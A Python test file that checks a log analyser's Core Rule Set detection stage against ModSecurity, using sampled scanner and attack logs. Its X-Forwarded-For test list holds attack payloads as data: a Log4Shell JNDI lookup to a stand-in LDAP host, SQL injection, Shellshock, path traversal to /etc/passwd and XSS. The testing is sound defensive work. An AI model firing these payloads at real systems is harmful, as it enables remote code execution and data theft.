"""The CRS stage against ModSecurity itself (libmodsecurity 3.0.15 from PyPI, same CRS rules).

For a fixed sample of distinct requests from each real log under ../shared (the ocatak
Acunetix/Netsparker/w3af scans, hackers-access.log, elastic's apache_logs, CSIC 2010 anomalous and
normal requests rendered as log lines), the rule ids the stage fires equal ModSecurity's on the same
request rebuilt from the log line (method, URI, protocol, Host, User-Agent, Referer), at paranoia
levels 1 and 2; 949110 stands for 'the anomaly score reached the threshold'. A difference is allowed
only for a rule listed in crs_cases/known_differences.yaml, and each entry there is reproduced.
"""
from __future__ import annotations

import hashlib
from pathlib import Path

import polars as pl
import pytest
import yaml
from conftest import ROOT
from crs_modsec import ModSecOracle

import file_parser
from log_analyser_core.rules.crs import engine, stage, variables

KNOWN = yaml.safe_load((ROOT / "tests" / "crs_cases" / "known_differences.yaml").read_text(encoding="utf-8"))
BLOCKED = 949110          # CRS's 'inbound anomaly score exceeded'
PER_SOURCE = 90           # distinct requests per log: ModSecurity takes ~15 ms a request
SOURCES = {"acunetix": "public/ocatak_apache-http-logs/acunetix.txt",
           "netsparker": "public/ocatak_apache-http-logs/netsparker.txt",
           "w3af": "public/ocatak_apache-http-logs/w3af.txt",
           "hackers": "public/nielsbasjes_yauaa/hackers-access.log",
           "apache_logs": "public/elastic_examples/apache_logs"}


def _key(row: dict) -> str:
    text = "\x1f".join(str(row[k]) for k in variables.REQUEST_KEYS)
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def _sample(events: pl.DataFrame, count: int) -> pl.DataFrame:
    """``count`` distinct requests, the same ones on every run: half with a query (where payloads
    are), half without, each half in the order of a hash of the request."""
    reqs = variables.requests(events.select(variables.REQUEST_KEYS)).filter(pl.col("path").is_not_null())
    rows = sorted(reqs.drop("rid").iter_rows(named=True), key=_key)
    with_query = [r for r in rows if r["query"]][: count // 2]
    rest = [r for r in rows if not r["query"]][: count - len(with_query)]
    return pl.DataFrame(with_query + rest, schema={k: pl.String for k in variables.REQUEST_KEYS})


@pytest.fixture(scope="module")
def sample(shared, tmp_path_factory) -> pl.DataFrame:
    import csic

    frames = []
    for relative in SOURCES.values():
        frames.append(_sample(file_parser.parse([str(shared / relative)]).events, PER_SOURCE))
    folder = tmp_path_factory.mktemp("csic")
    for kind in ("anomalous", "normal"):
        requests = [r for r in csic.read(kind) if r.visible]
        path = folder / f"{kind}.log"
        path.write_text("".join(csic.log_line(r, i) + "\n" for i, r in enumerate(requests)), encoding="latin-1")
        frames.append(_sample(file_parser.parse([str(path)]).events, PER_SOURCE))
    return pl.concat(frames).unique(maintain_order=True)


def fired_by_us(requests: pl.DataFrame, crs_dir: Path, paranoia: int) -> list[set[int]]:
    ruleset = stage.load(crs_dir, paranoia)
    reqs = variables.requests(requests)
    hits = engine.request_hits(reqs, ruleset)
    blocked = set(engine.scores(hits, ruleset).filter(pl.col("score") >= ruleset.threshold)["rid"].to_list())
    by_rid: dict[int, set[int]] = {}
    for rid, rule in hits.select("rid", "rule").unique().iter_rows():
        by_rid.setdefault(rid, set()).add(rule)
    order = {tuple(r[k] for k in variables.REQUEST_KEYS): r["rid"] for r in reqs.iter_rows(named=True)}
    out = []
    for row in requests.iter_rows(named=True):
        rid = order[tuple(row[k] for k in variables.REQUEST_KEYS)]
        out.append(by_rid.get(rid, set()) | ({BLOCKED} if rid in blocked else set()))
    return out


def fired_by_modsecurity(requests: pl.DataFrame, crs_dir: Path, paranoia: int) -> list[set[int]]:
    oracle = ModSecOracle(crs_dir / "rules", paranoia)
    try:
        return [oracle.fired(r["method"], r["path"] + (f"?{r['query']}" if r["query"] is not None else ""),
                             r["protocol"], r["vhost"], r["user_agent"], r["referer"])
                for r in requests.iter_rows(named=True)]
    finally:
        oracle.close()


@pytest.mark.parametrize("paranoia", [1, 2])
def test_fired_rules_equal_modsecurity_on_real_logs(sample, shared, paranoia):
    crs_dir = shared / "knowledge" / "coreruleset"
    ours, theirs = fired_by_us(sample, crs_dir, paranoia), fired_by_modsecurity(sample, crs_dir, paranoia)
    known = {k["rule"] for k in KNOWN if k["paranoia"] <= paranoia}
    unexplained = []
    for row, mine, modsec in zip(sample.iter_rows(named=True), ours, theirs, strict=True):
        differ = mine ^ modsec
        if differ - {BLOCKED} - known or (BLOCKED in differ and not differ & known):
            unexplained.append((row["method"], row["path"], row["query"], sorted(mine - modsec),
                                sorted(modsec - mine)))
    agree = sum(m == t for m, t in zip(ours, theirs, strict=True))
    assert unexplained == [], f"{agree} of {len(ours)} agree; unexplained: {unexplained[:5]}"
    assert sum(bool(t - {BLOCKED}) for t in theirs) > 100   # the sample holds many attacks
    assert agree >= 0.97 * len(ours)


FORWARDED_FOR = ["${jndi:ldap://198.51.100.9:1389/Exploit}", "1' UNION SELECT password FROM users-- ",
                 "() { :; }; /bin/bash -c 'id'", "../../../../etc/passwd", "<script>alert(1)</script>",
                 "198.51.100.20, 10.0.0.1", "unknown"]


@pytest.mark.parametrize("paranoia", [1, 2])
def test_payloads_in_x_forwarded_for_fire_what_modsecurity_fires(shared, paranoia):
    crs_dir = shared / "knowledge" / "coreruleset"
    rows = [{"method": "GET", "path": "/index.html", "query": None, "protocol": "HTTP/1.1",
             "user_agent": "Mozilla/5.0", "referer": None, "vhost": "localhost", "forwarded_for": value}
            for value in FORWARDED_FOR]
    requests = pl.DataFrame(rows, schema={k: pl.String for k in variables.REQUEST_KEYS})
    ours = fired_by_us(requests, crs_dir, paranoia)
    oracle = ModSecOracle(crs_dir / "rules", paranoia)
    try:
        theirs = [oracle.fired("GET", "/index.html", "HTTP/1.1", "localhost", "Mozilla/5.0", None,
                               {"X-Forwarded-For": value}) for value in FORWARDED_FOR]
    finally:
        oracle.close()
    assert ours == theirs
    assert 944150 in ours[0] and BLOCKED in ours[0] and not ours[-2] - {BLOCKED}


@pytest.mark.parametrize("entry", KNOWN, ids=[f"{k['rule']}-pl{k['paranoia']}" for k in KNOWN])
def test_each_known_difference_is_still_one(shared, entry):
    crs_dir = shared / "knowledge" / "coreruleset"
    uri = entry["request"]["uri"]
    path, _, query = uri.partition("?")
    request = pl.DataFrame([{"method": entry["request"]["method"], "path": path, "query": query or None,
                             "protocol": "HTTP/1.1", "user_agent": entry["request"].get("user_agent", "Mozilla/5.0"),
                             "referer": entry["request"].get("referer"), "vhost": entry["request"].get("host")}],
                           schema={k: pl.String for k in variables.REQUEST_KEYS})
    (ours,) = fired_by_us(request, crs_dir, entry["paranoia"])
    (theirs,) = fired_by_modsecurity(request, crs_dir, entry["paranoia"])
    assert (entry["rule"] in ours, entry["rule"] in theirs) == (entry["ours"], entry["modsecurity"])
